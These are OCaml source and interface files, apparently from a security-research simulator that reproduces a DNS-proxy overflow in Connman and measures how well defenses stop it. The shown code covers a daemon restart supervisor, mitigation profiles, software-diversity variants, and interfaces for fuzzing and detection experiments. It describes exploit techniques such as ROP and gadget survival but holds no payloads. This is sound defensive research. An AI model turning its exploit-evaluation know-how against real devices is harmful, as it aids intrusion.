    the telemetry layer attached end to end: the trace sink on the world
    (net events), the daemon (daemon/cpu/mem events), and the
    supervisor; the profiler on the machine-level parse; the metrics
    registry over all of them.  Deterministic: the same seed with the
    same sinks emits the same events in the same order.  Returns the
    chaos row plus a symbolizer over the daemon's current process (for
    rendering profiles).  [Error] names an unknown cell or schedule.

    When [monitor] is given, the same probes also register into its
    registry (deduped against [?metrics]), the supervisor journals its
    lifecycle into it, and a world barrier scrapes it every
    {!Telemetry.Monitor.interval_us} — the single-cell flight-recorder
    hookup, mirroring the fleet campaign's. *)

val chaos_campaign :
  ?seed:int -> ?smoke:bool -> ?shards:int -> unit -> chaos_report
(** Run the grid ([smoke] cuts it to 2 cells × 3 schedules and 3 sweep
    trials for CI).  [shards] (default 1) builds every cell's world
    sharded; a cell's single LAN stays on shard 0, so results replay
    bit-identically across shard counts.  Raises [Invalid_argument] on
    a non-positive count. *)

val chaos_json : chaos_report -> string
(** Deterministic serialization (fixed field order, fixed float
    precision): identical seeds give identical bytes. *)

val pp_chaos : Format.formatter -> chaos_report -> unit

(** {2 Detection matrix}

    The DoS cell, the six-exploit matrix, and two benign controls re-run
    with the {!Sanitizer.Oracle} attached to the daemon.  Each row
    records the (unchanged) disposition, how many sanitizer reports
    fired, and the {e first} detection point — the earliest moment the
    taint rules could have stopped the attack.  [det_ok] demands that
    every attack cell is caught no later than the control-flow hijack
    ([tainted-pc]) and that benign traffic produces zero reports. *)

type detection_row = {
  det_cell : string;  (** "DoS", "E1".."E6", "benign-x86", "benign-arm" *)
  det_arch : string;
  det_profile : string;
  det_disposition : string;  (** {!disposition_word} of the sanitized run *)
  det_reports : int;
  det_counts : (string * int) list;  (** per-kind counts, severity order *)
  det_first : Sanitizer.Oracle.report option;  (** earliest detection *)
  det_first_symbol : string;  (** symbolized pc of that report, [""] if none *)
  det_rendered : string list;  (** every report, rendered and symbolized *)
  det_ok : bool;
}

val detection_matrix : ?seed:int -> unit -> detection_row list
(** Deterministic: identical seeds give identical rows (and therefore
    identical {!detection_json} bytes). *)

val detection_json : ?seed:int -> detection_row list -> string
(** Deterministic serialization ([detection-matrix-v1] schema, fixed
    field order). *)

val pp_detection : Format.formatter -> detection_row list -> unit

(** {2 Fuzz campaign}

    Coverage-guided rediscovery of the Listing-1 overflow
    ({!Fuzz.Engine}) on both ISAs, from benign seed corpora, with the
    taint oracle triaging every crash.  Measures executions-to-
    rediscovery and which detection rule fires first.  All randomness is
    seed-derived: identical seeds give byte-identical {!fuzz_json}. *)

type fuzz_report = {
  fuzz_seed : int;
  fuzz_smoke : bool;
  fuzz_shards : int;  (** independent engine instances per ISA *)
  fuzz_runs : Fuzz.Engine.stats list;
      (** x86 shards (seed-derived order) first, then ARM shards *)
  fuzz_ok : bool;
      (** every ISA rediscovered the overflow in at least one shard *)
}

val fuzz_campaign :
  ?seed:int -> ?smoke:bool -> ?shards:int -> ?execs:int -> unit -> fuzz_report
(** [smoke] caps the budget at 4000 executions per ISA (vs 20000), and
    [execs] overrides either cap outright; the default seed rediscovers
    at execution 954 on both ISAs.  [shards] (default 1) runs that many
    independent engine instances per ISA on derived seeds
    ([seed + 7919*i], the netsim shard idiom).  Raises
    [Invalid_argument] on a non-positive shard count. *)

val fuzz_json : fuzz_report -> string
(** Deterministic serialization ([fuzz-campaign-v1] schema, embedding
    each run's [fuzz-stats-v1] document verbatim). *)

val pp_fuzz : Format.formatter -> fuzz_report -> unit

(** {2 V: diversity survival matrix}

    The headline diversity experiment: every chaos cell (DoS plus the
    six-exploit matrix) fired at [n] copy-on-write forks of a template
    device under four defense combinations — the cell's own profile
    ("base"), plus per-boot layout diversity ("div",
    {!Connman.Dnsproxy.fork_diversified} with one {!Diversity.Pool}
    seed per device), plus the enforced embedded mitigations ("shstk",
    shadow return stack + forward-edge CFI via the interpreters'
    [run_mitigated]), plus both ("div+shstk").  Reports survival
    probability with Wilson confidence intervals per combination, and
    per-variant diversification stats (layout moves, padding,
    {!Defense.Equiv} rewrite counts, gadget count and gadget-address
    survival from the {!Exploit.Gadget} scanner).  All randomness is
    seed-derived: identical seeds give byte-identical
    {!diversity_json}. *)

type variant_stats = {
  var_seed : int;  (** the variant's diversity seed *)
  var_moved : int;  (** chunks displaced by the layout shuffle *)
  var_pad_bytes : int;
  var_rewrites : int;  (** {!Defense.Equiv} substitutions applied *)
  var_gadgets : int;  (** gadget count in the variant's .text *)
  var_gadget_survival : float;
      (** fraction of the stock image's gadget addresses still gadget
          starts in this variant *)
}

type div_combo = {
  combo : string;  (** ["base"], ["div"], ["shstk"], or ["div+shstk"] *)
  combo_profile : string;
  combo_diversified : bool;
  combo_trials : int;
  combo_successes : int;  (** attacks that achieved their goal *)
  combo_rate : float;
  combo_ci_low : float;
  combo_ci_high : float;  (** 95% Wilson interval around [combo_rate] *)
  combo_mitigations : string list;
      (** {!Exploit.Autogen.mitigated_by}: the defenses expected to stop
          this cell; empty means expected to succeed *)
  combo_ok : bool;
      (** observed matches expectation: mitigated combos block every
          trial, unmitigated undiversified combos succeed every trial,
          DoS kills the daemon everywhere, and the diversified rate
          never exceeds the base rate *)
  combo_gadgets_baseline : int;
  combo_gadget_survival_mean : float;
  combo_moved_mean : float;
  combo_pad_mean : float;
  combo_rewrites_mean : float;
  combo_variant_sample : variant_stats list;
      (** the first few variants, embedded in the JSON *)
}

type div_cell = {
  div_id : string;  (** ["DoS"], ["E1"].."E6" *)
  div_arch : string;
  div_base_profile : string;
  div_combos : div_combo list;
}

type div_report = {
  div_seed : int;
  div_n : int;  (** variants per cell × combination *)
  div_smoke : bool;
  div_cells : div_cell list;
  div_ok : bool;
}

val diversity_matrix :
  ?seed:int ->
  ?smoke:bool ->
  ?variants:int ->
  ?arch:Loader.Arch.t ->
  ?base_profile:Defense.Profile.t ->
  unit ->
  div_report
(** [variants] defaults to 1000 (48 under [smoke]).  The payload for
    each cell is built once against an undiversified analysis boot of
    the cell's base profile — the attacker studied a stock image — and
    the combinations measure how far that one payload carries.  [arch]
    and [base_profile] (matched by {!Defense.Profile.name}) restrict
    the run to the matching matrix cells.  Raises [Invalid_argument]
    on a non-positive variant count or an empty cell selection, and
    [Failure] if payload generation fails for a cell. *)

val diversity_json : div_report -> string
(** Deterministic serialization ([diversity-matrix-v1] schema): fixed
    key order, [%.4f] floats — the same seed always yields the same
    bytes. *)

val pp_diversity : Format.formatter -> div_report -> unit
