module Sim = Netsim.Sim
module Rng = Memsim.Rng

module type DAEMON = sig
  type t

  val kind : string
  val alive : t -> bool
  val restart : t -> unit
end

module Connman_daemon = struct
  type t = Connman.Dnsproxy.t

  let kind = "connmand"
  let alive = Connman.Dnsproxy.alive
  let restart = Connman.Dnsproxy.restart
end

module Dnsmasq_daemon = struct
  type t = Dnsmasq.Daemon.t

  let kind = "dnsmasq"
  let alive = Dnsmasq.Daemon.alive
  let restart = Dnsmasq.Daemon.restart
end

module Tcpsvc_daemon = struct
  type t = Tcpsvc.Daemon.t

  let kind = "tcpsvc"
  let alive = Tcpsvc.Daemon.alive
  let restart = Tcpsvc.Daemon.restart
end

type backoff = {
  initial_us : int;
  multiplier : float;
  max_us : int;
  jitter : float;
}

let default_backoff =
  { initial_us = 100_000; multiplier = 2.0; max_us = 10_000_000; jitter = 0.1 }

type policy = { backoff : backoff; burst : int; window_us : int }

let default_policy = { backoff = default_backoff; burst = 4; window_us = 30_000_000 }

type event_kind =
  | Crash_detected of int
  | Restart_scheduled of int
  | Restarted
  | Gave_up
  | Revived

type event = { at : int; kind : event_kind }

let pp_event ppf e =
  match e.kind with
  | Crash_detected n ->
      Format.fprintf ppf "[%8dus] crash detected (%d in window)" e.at n
  | Restart_scheduled d ->
      Format.fprintf ppf "[%8dus] restart scheduled in %dus" e.at d
  | Restarted -> Format.fprintf ppf "[%8dus] restarted" e.at
  | Gave_up -> Format.fprintf ppf "[%8dus] crash loop: giving up" e.at
  | Revived -> Format.fprintf ppf "[%8dus] revived: crash-loop state cleared" e.at

(* Existential pack: the supervisor doesn't care which daemon type it
   owns once [alive]/[restart] are captured. *)
type instance = { kind : string; alive : unit -> bool; restart : unit -> unit }

type t = {
  sim : Sim.t;
  inst : instance;
  policy : policy;
  sup_name : string;
  on_event : event -> unit;
  mutable st : [ `Watching | `Waiting_restart | `Gave_up ];
  mutable restarts : int;
  mutable crashes : int;
  mutable next_delay_us : int;
  mutable crash_times : int list;  (* most recent first, pruned to window *)
  mutable log : event list;  (* most recent first *)
  mutable trace : Telemetry.Trace.t option;
  mutable monitor : Telemetry.Monitor.t option;
}

let supervise ?(policy = default_policy) ?name ?(on_event = ignore) sim
    (type a) (module D : DAEMON with type t = a) (daemon : a) =
  let inst =
    {
      kind = D.kind;
      alive = (fun () -> D.alive daemon);
      restart = (fun () -> D.restart daemon);
    }
  in
  {
    sim;
    inst;
    policy;
    sup_name = (match name with Some n -> n | None -> D.kind);
    on_event;
    st = `Watching;
    restarts = 0;
    crashes = 0;
    next_delay_us = policy.backoff.initial_us;
    crash_times = [];
    log = [];
    trace = None;
    monitor = None;
  }

let name t = t.sup_name
let state t = t.st
let restarts t = t.restarts
let crashes t = t.crashes
let gave_up t = t.st = `Gave_up
let events t = List.rev t.log

let set_trace t tr = t.trace <- tr
let set_monitor t m = t.monitor <- m

let record t kind =
  let e = { at = Sim.now t.sim; kind } in
  t.log <- e :: t.log;
  (match t.trace with
  | None -> ()
  | Some tr ->
      let module Tr = Telemetry.Trace in
      Tr.set_now tr e.at;
      let name, args =
        match kind with
        | Crash_detected n -> ("crash-detected", [ ("in_window", Tr.I n) ])
        | Restart_scheduled d -> ("restart-scheduled", [ ("delay_us", Tr.I d) ])
        | Restarted -> ("restarted", [ ("restarts", Tr.I t.restarts) ])
        | Gave_up -> ("gave-up", [ ("crashes", Tr.I t.crashes) ])
        | Revived -> ("revived", [ ("restarts", Tr.I t.restarts) ])
      in
      Tr.emit tr ~ts:e.at ~cat:"supervisor" ~track:t.sup_name name ~args);
  (match t.monitor with
  | None -> ()
  | Some m ->
      let kname, detail =
        match kind with
        | Crash_detected n -> ("crash_detected", Printf.sprintf "%d in window" n)
        | Restart_scheduled d -> ("restart_scheduled", Printf.sprintf "delay=%dus" d)
        | Restarted -> ("restarted", Printf.sprintf "restarts=%d" t.restarts)
        | Gave_up -> ("gave_up", Printf.sprintf "crashes=%d" t.crashes)
        | Revived -> ("revived", "")
      in
      Telemetry.Monitor.journal m ~ts:e.at ~source:"supervisor" ~actor:t.sup_name
        ~detail kname);
  t.on_event e

let jittered_delay t =
  let b = t.policy.backoff in
  let base = t.next_delay_us in
  if b.jitter <= 0.0 then base
  else
    let span = int_of_float (float_of_int base *. b.jitter) in
    base + Rng.int (Sim.rng t.sim) (max 1 span)

let grow_backoff t =
  let b = t.policy.backoff in
  t.next_delay_us <-
    min b.max_us
      (max b.initial_us (int_of_float (float_of_int t.next_delay_us *. b.multiplier)))

let do_restart t _sim =
  if t.st = `Waiting_restart then begin
    t.inst.restart ();
    t.restarts <- t.restarts + 1;
    t.st <- `Watching;
    record t Restarted
  end

let notify t =
  match t.st with
  | `Gave_up | `Waiting_restart -> ()
  | `Watching ->
      let now = Sim.now t.sim in
      let fresh = List.filter (fun at -> now - at <= t.policy.window_us) t.crash_times in
      if t.inst.alive () then begin
        (* A quiet window earns a backoff reset, like systemd clearing
           its start counter after StartLimitInterval. *)
        if fresh = [] then t.next_delay_us <- t.policy.backoff.initial_us;
        t.crash_times <- fresh
      end
      else begin
        t.crash_times <- now :: fresh;
        t.crashes <- t.crashes + 1;
        let in_window = List.length t.crash_times in
        record t (Crash_detected in_window);
        if in_window > t.policy.burst then begin
          t.st <- `Gave_up;
          record t Gave_up
        end
        else begin
          let delay = jittered_delay t in
          grow_backoff t;
          t.st <- `Waiting_restart;
          record t (Restart_scheduled delay);
          Sim.schedule t.sim ~delay (do_restart t)
        end
      end

(* Quarantine's road back: a crash-loop verdict stops being terminal the
   moment an operator (or the fleet health machine) decides the device
   deserves another chance.  Everything the verdict was built on —
   window, backoff growth, pending-restart state — is discarded so the
   next crash is judged afresh; a dead daemon is restarted immediately
   rather than waiting out a stale backoff delay. *)
let revive t =
  t.st <- `Watching;
  t.next_delay_us <- t.policy.backoff.initial_us;
  t.crash_times <- [];
  record t Revived;
  if not (t.inst.alive ()) then begin
    t.inst.restart ();
    t.restarts <- t.restarts + 1;
    record t Restarted
  end

let register_metrics t reg =
  let labels = [ ("supervisor", t.sup_name) ] in
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"daemon restarts performed" "supervisor_restarts_total" (fun () ->
      float_of_int t.restarts);
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"crashes detected" "supervisor_crashes_total" (fun () ->
      float_of_int t.crashes);
  Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
    ~help:"1 if the supervisor entered the crash-loop give-up state"
    "supervisor_gave_up" (fun () -> if gave_up t then 1.0 else 0.0)

let watch t ~every_us ~rounds =
  if every_us <= 0 then invalid_arg "Supervisor.watch: every_us must be positive";
  let rec arm remaining =
    if remaining > 0 then
      Sim.schedule t.sim ~delay:every_us (fun _ ->
          notify t;
          arm (remaining - 1))
  in
  arm rounds

module Retry = struct
  type policy = {
    attempts : int;
    timeout_us : int;
    multiplier : float;
    max_timeout_us : int;
  }

  let fixed ~attempts ~timeout_us =
    { attempts; timeout_us; multiplier = 1.0; max_timeout_us = timeout_us }

  let exponential ?(multiplier = 2.0) ?max_timeout_us ~attempts ~timeout_us () =
    let max_timeout_us =
      match max_timeout_us with Some m -> m | None -> timeout_us * 16
    in
    { attempts; timeout_us; multiplier; max_timeout_us }

  let run sim policy ~attempt ~still_needed ?on_exhausted () =
    if policy.attempts <= 0 then
      invalid_arg "Supervisor.Retry.run: attempts must be positive";
    if policy.timeout_us <= 0 then
      invalid_arg "Supervisor.Retry.run: timeout_us must be positive";
    let timeout_for i =
      (* timeout before attempt [i+1], grown from the base *)
      let t =
        float_of_int policy.timeout_us *. (policy.multiplier ** float_of_int i)
      in
      min policy.max_timeout_us (max policy.timeout_us (int_of_float t))
    in
    let rec step i =
      attempt i;
      if i + 1 < policy.attempts then
        Sim.schedule sim ~delay:(timeout_for i) (fun _ ->
            if still_needed () then step (i + 1))
      else
        match on_exhausted with
        | None -> ()
        | Some f ->
            Sim.schedule sim ~delay:(timeout_for i) (fun _ ->
                if still_needed () then f ())
    in
    step 0
end
