(** Systemd-style daemon lifecycle supervision on the {!Netsim.Sim}
    event clock.

    The paper's DoS finding is an availability story: a crashed
    connmand leaves the device without DNS "until an init system
    restarts it", and repeated crash/restart cycles are exactly what a
    defender observes while an attacker brute-forces ASLR.  This module
    is that init system: restart-on-crash with exponential backoff plus
    deterministic jitter, crash-loop detection ([StartLimitBurst]-style
    giving up), and a timestamped event log.

    Crash detection is event-driven so the simulation's event loop can
    drain: call {!notify} whenever the daemon may have died (devices do
    this automatically on every crash disposition), or run a bounded
    polling {!watch}.  All randomness (backoff jitter) comes from the
    simulator's seeded rng — identical seeds give identical restart
    schedules.

    {!Retry} is the shared timeout/retry/backoff policy used by
    {!Device.lookup_with_retry} (resolver-client retransmission); the
    supervisor and the retransmitter deliberately share one vocabulary
    of bounded, backed-off attempts. *)

(** What the supervisor needs from a daemon. *)
module type DAEMON = sig
  type t

  val kind : string
  (** e.g. ["connmand"] — used in event formatting. *)

  val alive : t -> bool
  val restart : t -> unit
end

module Connman_daemon : DAEMON with type t = Connman.Dnsproxy.t
module Dnsmasq_daemon : DAEMON with type t = Dnsmasq.Daemon.t
module Tcpsvc_daemon : DAEMON with type t = Tcpsvc.Daemon.t

type backoff = {
  initial_us : int;  (** first restart delay (systemd [RestartSec]) *)
  multiplier : float;  (** growth per consecutive crash *)
  max_us : int;  (** delay ceiling *)
  jitter : float;
      (** fraction of the current delay added uniformly at random,
          [0, 1] — decorrelates fleet-wide restart stampedes *)
}

val default_backoff : backoff
(** 100ms initial, ×2.0, 10s ceiling, 0.1 jitter. *)

type policy = {
  backoff : backoff;
  burst : int;
      (** give up after more than [burst] crashes inside [window_us]
          (systemd [StartLimitBurst]) *)
  window_us : int;  (** crash-counting window ([StartLimitIntervalSec]) *)
}

val default_policy : policy
(** [default_backoff], burst 4, 30s window. *)

type event_kind =
  | Crash_detected of int  (** crash count within the current window *)
  | Restart_scheduled of int  (** chosen backoff delay, µs *)
  | Restarted
  | Gave_up  (** crash-loop detected; no further restarts until {!revive} *)
  | Revived  (** give-up verdict and backoff history cleared *)

type event = { at : int  (** sim time, µs *); kind : event_kind }

val pp_event : Format.formatter -> event -> unit

type t

val supervise :
  ?policy:policy ->
  ?name:string ->
  ?on_event:(event -> unit) ->
  Netsim.Sim.t ->
  (module DAEMON with type t = 'a) ->
  'a ->
  t
(** Attach a supervisor to a daemon instance.  Nothing is scheduled
    until a crash is noticed via {!notify} or {!watch}. *)

val notify : t -> unit
(** Check the daemon now.  If it is dead and the supervisor is watching,
    either schedule a restart per the backoff policy or — when the
    burst limit inside the window is exceeded — give up.  If it is
    alive and the last crash has aged out of the window, the backoff
    resets to its initial delay.  No-op while a restart is already
    pending or after giving up. *)

val watch : t -> every_us:int -> rounds:int -> unit
(** Bounded polling watchdog: {!notify} every [every_us] for [rounds]
    rounds (bounded so {!Netsim.World.run} can drain the event loop). *)

val revive : t -> unit
(** Reset the supervisor: the give-up verdict, the crash-counting
    window, and the grown backoff (back to [initial_us]) are all
    cleared, recording a [Revived] event.  If the daemon is dead it is
    restarted immediately (recording [Restarted]); a restart that was
    already pending becomes a no-op.  This is the reintroduction hook
    for quarantine-style health machines — crash-loop give-up is an
    operator decision point, not a terminal state.  Safe to call in any
    state. *)

val name : t -> string
val state : t -> [ `Watching | `Waiting_restart | `Gave_up ]
val restarts : t -> int
val crashes : t -> int
val gave_up : t -> bool

val events : t -> event list
(** Oldest first. *)

val set_trace : t -> Telemetry.Trace.t option -> unit
(** Attach a telemetry sink: every supervision event (crash detected,
    restart scheduled/performed, give-up) is also emitted as a
    ["supervisor"]-category trace event on a track named after this
    supervisor, stamped with sim time. *)

val set_monitor : t -> Telemetry.Monitor.t option -> unit
(** Attach a flight recorder: every supervision event is journaled
    (source ["supervisor"], actor = this supervisor's name) so incident
    timelines can show restarts and give-ups between detection and
    quarantine. *)

val register_metrics : t -> Telemetry.Metrics.t -> unit
(** Register [supervisor_*] probes (restarts, crashes, gave-up state),
    labelled with this supervisor's name. *)

(** Bounded, backed-off retransmission — the policy type
    {!Device.lookup_with_retry} runs on. *)
module Retry : sig
  type policy = {
    attempts : int;  (** total attempts, including the first *)
    timeout_us : int;  (** delay before the first retransmission *)
    multiplier : float;  (** timeout growth per retransmission *)
    max_timeout_us : int;
  }

  val fixed : attempts:int -> timeout_us:int -> policy
  (** Constant timeout (the seed [lookup_with_retry] behaviour). *)

  val exponential :
    ?multiplier:float ->
    ?max_timeout_us:int ->
    attempts:int ->
    timeout_us:int ->
    unit ->
    policy
  (** Default ×2.0 growth, ceiling 16× the initial timeout. *)

  val run :
    Netsim.Sim.t ->
    policy ->
    attempt:(int -> unit) ->
    still_needed:(unit -> bool) ->
    ?on_exhausted:(unit -> unit) ->
    unit ->
    unit
  (** [attempt 0] fires immediately; each later attempt [i] fires after
      the (backed-off) timeout only if [still_needed ()] still holds.
      When [on_exhausted] is given, it runs one timeout after the final
      attempt if the need never went away.  Raises [Invalid_argument]
      on a non-positive attempt count. *)
end
