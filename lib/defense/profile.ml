type t = {
  wxorx : bool;
  aslr : bool;
  aslr_entropy_bits : int;
  canary : bool;
  cfi : bool;
  shadow_stack : bool;
  forward_cfi : bool;
  seccomp : bool;
}

let none =
  {
    wxorx = false;
    aslr = false;
    aslr_entropy_bits = 0;
    canary = false;
    cfi = false;
    shadow_stack = false;
    forward_cfi = false;
    seccomp = false;
  }

let wx = { none with wxorx = true }
let wx_aslr = { wx with aslr = true; aslr_entropy_bits = 12 }
let with_canary t = { t with canary = true }
let with_cfi t = { t with cfi = true }
let with_shadow_stack t = { t with shadow_stack = true }
let with_forward_cfi t = { t with forward_cfi = true }
let with_mitigations t = { t with shadow_stack = true; forward_cfi = true }
let with_seccomp t = { t with seccomp = true }
let with_entropy bits t = { t with aslr = bits > 0; aslr_entropy_bits = bits }
let mitigated t = t.shadow_stack || t.forward_cfi

let name t =
  let parts =
    (if t.wxorx then [ "wx" ] else [])
    @ (if t.aslr then [ "aslr" ] else [])
    @ (if t.canary then [ "canary" ] else [])
    @ (if t.cfi then [ "cfi" ] else [])
    @ (if t.shadow_stack then [ "shstk" ] else [])
    @ (if t.forward_cfi then [ "fcfi" ] else [])
    @ if t.seccomp then [ "seccomp" ] else []
  in
  match parts with [] -> "none" | l -> String.concat "+" l

let pp ppf t =
  Format.fprintf ppf "%s%s" (name t)
    (if t.aslr then Printf.sprintf "(%d bits)" t.aslr_entropy_bits else "")
