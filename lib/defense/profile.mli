(** Memory-protection profiles.

    The paper evaluates three levels (§III): no protections, W⊕X, and
    W⊕X+ASLR — all with stack canaries disabled, as in the targeted
    Connman builds.  Canaries, CFI and software diversity are the
    additional mitigations of §IV, exposed here for the ablation
    experiments. *)

type t = {
  wxorx : bool;  (** non-executable stack (NX pages) *)
  aslr : bool;  (** randomize libc and stack bases per boot *)
  aslr_entropy_bits : int;  (** pages of entropy when [aslr] is on *)
  canary : bool;  (** stack-protector cookie in vulnerable frames *)
  cfi : bool;  (** shadow-stack return-edge CFI (CFI CaRE analogue) *)
  shadow_stack : bool;
      (** enforced shadow return stack checked by the [run_mitigated]
          interpreter entry point — the deeply-embedded mitigation of the
          DAEDALUS/µRAI line of work, kept out of the plain hot loops *)
  forward_cfi : bool;
      (** forward-edge CFI: indirect calls and jumps may only target
          symbol-table entry points (coarse-grained label checking, the
          embedded analogue of compiler CFI), also enforced by
          [run_mitigated] *)
  seccomp : bool;
      (** syscall filter: the daemon may not exec — a shell spawn becomes
          a policy kill (a modern IoT hardening measure, complementary to
          the paper's §IV list) *)
}

val none : t
(** §III-A: everything off — code injection works. *)

val wx : t
(** §III-B: W⊕X only — code reuse (ret2libc / simple ROP) works. *)

val wx_aslr : t
(** §III-C: W⊕X + ASLR (default 12 bits) — PLT/.bss-based ROP works. *)

val with_canary : t -> t
val with_cfi : t -> t

val with_shadow_stack : t -> t
(** Enforced shadow return stack ({!t.shadow_stack}). *)

val with_forward_cfi : t -> t
(** Forward-edge CFI ({!t.forward_cfi}). *)

val with_mitigations : t -> t
(** Both embedded mitigations: shadow return stack + forward-edge CFI. *)

val with_seccomp : t -> t
val with_entropy : int -> t -> t

val mitigated : t -> bool
(** True when either embedded mitigation is on, i.e. the process must run
    under the [run_mitigated] interpreter entry point. *)

val name : t -> string
(** Short label, e.g. ["none"], ["wx"], ["wx+aslr"], ["wx+aslr+canary"]. *)

val pp : Format.formatter -> t -> unit
