(* splitmix-style finalizer: avalanches every master/index bit so
   neighbouring indices land far apart in seed space, truncated to stay
   within Rng's accepted range. *)
let seed_for ~master index =
  let z = master + ((index + 1) * 0x9E37_79B9) in
  let z = (z lxor (z lsr 16)) * 0x85EB_CA6B land max_int in
  let z = (z lxor (z lsr 13)) * 0xC2B2_AE35 land max_int in
  (z lxor (z lsr 16)) land 0x3FFF_FFFF

let seeds ~master n = List.init n (seed_for ~master)
