(** Deterministic variant-seed derivation.

    A fleet or experiment draws one master seed and derives one variant
    seed per device index; the derivation is a closed-form mix (no
    shared RNG stream), so cohorts can be sized, sharded, or replayed
    independently while staying byte-reproducible. *)

val seed_for : master:int -> int -> int
(** [seed_for ~master i] — the [i]-th variant seed.  Stable across
    runs; distinct indices give well-separated seeds. *)

val seeds : master:int -> int -> int list
(** First [n] variant seeds. *)
