module Rng = Memsim.Rng

type plan = {
  seed : int;
  order : string list;
  moved : int;
  pad_bytes : int;
  rewrites : int;
}

(* Chunks displaced from their original position.  Every moved chunk
   shifts the addresses of everything assembled after it, so [moved] is
   the cheap proxy for "how much of the gadget map survived". *)
let moved_count names order =
  List.length (List.filter (fun (a, b) -> a <> b) (List.combine names order))

(* Both passes must stay bit-for-bit compatible with the historical
   in-spec pipeline (rng created from [seed lxor 0x5EED], shuffle first,
   then one padding draw per chunk in shuffled order, then the whole
   list through [Defense.Equiv]): committed experiment seeds and the
   version-transfer results depend on it. *)

let x86 ~seed chunks =
  let rng = Rng.create (seed lxor 0x5EED) in
  let arr = Array.of_list chunks in
  Rng.shuffle rng arr;
  let pad_bytes = ref 0 in
  let padded =
    Array.to_list arr
    |> List.concat_map (fun (_, items) ->
           let pad = String.make (Rng.int rng 64) '\x90' in
           pad_bytes := !pad_bytes + String.length pad;
           Isa_x86.Asm.Bytes pad :: items)
  in
  let rewritten = Defense.Equiv.x86 ~seed padded in
  let order = Array.to_list (Array.map fst arr) in
  ( rewritten,
    {
      seed;
      order;
      moved = moved_count (List.map fst chunks) order;
      pad_bytes = !pad_bytes;
      rewrites = Defense.Equiv.count_rewrites_x86 padded rewritten;
    } )

let arm ~seed chunks =
  let rng = Rng.create (seed lxor 0x5EED) in
  let arr = Array.of_list chunks in
  Rng.shuffle rng arr;
  let nop = Isa_arm.Encode.encode Isa_arm.Insn.nop in
  let pad_bytes = ref 0 in
  let padded =
    Array.to_list arr
    |> List.concat_map (fun (_, items) ->
           let pad =
             String.concat ""
               (List.init (Rng.int rng 16) (fun _ -> nop))
           in
           pad_bytes := !pad_bytes + String.length pad;
           Isa_arm.Asm.Align 4 :: Isa_arm.Asm.Bytes pad :: items)
  in
  let rewritten = Defense.Equiv.arm ~seed padded in
  let order = Array.to_list (Array.map fst arr) in
  ( rewritten,
    {
      seed;
      order;
      moved = moved_count (List.map fst chunks) order;
      pad_bytes = !pad_bytes;
      rewrites = Defense.Equiv.count_rewrites_arm padded rewritten;
    } )

let pp_plan ppf p =
  Format.fprintf ppf "seed=%#x moved=%d/%d pad=%dB rewrites=%d" p.seed p.moved
    (List.length p.order) p.pad_bytes p.rewrites
