(** Seeded per-boot diversification over named assembly chunks — the
    variant generator of the diversity engine (DAEDALUS-style artificial
    software diversity, the "work in progress" the paper's §IV points
    at).

    Input is a program cut into named chunks (one per function plus
    rodata), each carrying its own labels and, on ARM, its own literal
    pools — so reordering chunks is always relocation-safe: the
    assembler's label/fixup machinery re-resolves every reference at the
    new addresses.  The pass composes three layers, all drawn from one
    seed:

    - {b layout shuffling} — Fisher–Yates over the chunk order, moving
      every function (and with it every gadget) to a new address;
    - {b padding insertion} — a random NOP sled (0–63 bytes on x86,
      0–15 words on ARM, [Align 4]-safe) before each chunk, sliding
      addresses even within an unmoved prefix;
    - {b gadget-breaking rewrites} — {!Defense.Equiv} equivalent-
      instruction randomization over the shuffled+padded list, changing
      instruction bytes (and on x86, lengths) in place.

    The same seed reproduces the same variant bit-for-bit; distinct
    seeds give variants that are behaviorally equivalent (the
    differential suite replays every exploit cell, DoS, and benign parse
    against them) but share almost no gadget addresses.  Generation is a
    list shuffle plus one assembly — cheap enough to pair with
    copy-on-write forks for µs-scale diversified device spawning
    ([Loader.Process.reimage]). *)

type plan = {
  seed : int;
  order : string list;  (** chunk names in post-shuffle layout order *)
  moved : int;  (** chunks displaced from their original position *)
  pad_bytes : int;  (** total NOP padding inserted *)
  rewrites : int;  (** {!Defense.Equiv} substitutions applied *)
}
(** What a variant's diversification did — the per-variant stats the
    survival matrix aggregates. *)

val x86 :
  seed:int ->
  (string * Isa_x86.Asm.item list) list ->
  Isa_x86.Asm.item list * plan

val arm :
  seed:int ->
  (string * Isa_arm.Asm.item list) list ->
  Isa_arm.Asm.item list * plan
(** Both passes are bit-for-bit compatible with the historical in-spec
    diversification pipeline, so committed experiment seeds keep their
    meaning. *)

val pp_plan : Format.formatter -> plan -> unit
