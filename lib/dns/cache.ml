(* Sharded TTL cache.  Each shard owns a hashtable plus a min-expiry
   binary heap over (expires, seq) — the same sift-up/sift-down shape as
   Netsim.Sim's event queue.  Heap nodes are invalidated lazily: the
   table holds the truth, and a node is live only if the table still maps
   its name to the same (expires, seq).  Stale nodes are discarded when
   they reach the root, and a compaction rebuilds the heap from the table
   when tombstones outnumber live entries. *)

type entry = {
  value : int;  (* ipv4 (host order); 0 for negative entries *)
  negative : bool;
  expires : int;
  seq : int;  (* store sequence number: FIFO tie-break and liveness tag *)
}

type hnode = { hexp : int; hseq : int; hname : string }

let hsentinel = { hexp = max_int; hseq = max_int; hname = "" }

type shard = {
  cap : int;
  table : (string, entry) Hashtbl.t;
  mutable heap : hnode array;
  mutable hsize : int;
  mutable hits : int;
  mutable misses : int;
  mutable negative_hits : int;
  mutable insertions : int;
  mutable replacements : int;
  mutable evictions : int;
  mutable expired_sweeps : int;
}

type t = {
  capacity : int;
  mask : int;  (* shard count - 1; shard count is a power of two *)
  shards : shard array;
  mutable next_seq : int;
}

type outcome = Hit of int | Negative_hit | Miss

type stats = {
  hits : int;
  misses : int;
  negative_hits : int;
  insertions : int;
  replacements : int;
  evictions : int;
  expired_sweeps : int;
  occupancy : int;
}

let pow2_floor n =
  let rec go acc = if acc * 2 <= n then go (acc * 2) else acc in
  go 1

let create ?(capacity = 256) ?shards () =
  if capacity <= 0 then invalid_arg "Cache.create: capacity must be positive";
  let nshards =
    match shards with
    | Some s ->
        if s <= 0 then invalid_arg "Cache.create: shards must be positive";
        pow2_floor (min s capacity)
    | None ->
        (* keep every shard at least ~16 slots so small caches stay
           single-shard (and deterministic for eviction-order tests) *)
        min 64 (pow2_floor (max 1 (capacity / 16)))
  in
  let base = capacity / nshards and rem = capacity mod nshards in
  let mk i =
    {
      cap = base + (if i < rem then 1 else 0);
      table = Hashtbl.create 16;
      heap = Array.make 16 hsentinel;
      hsize = 0;
      hits = 0;
      misses = 0;
      negative_hits = 0;
      insertions = 0;
      replacements = 0;
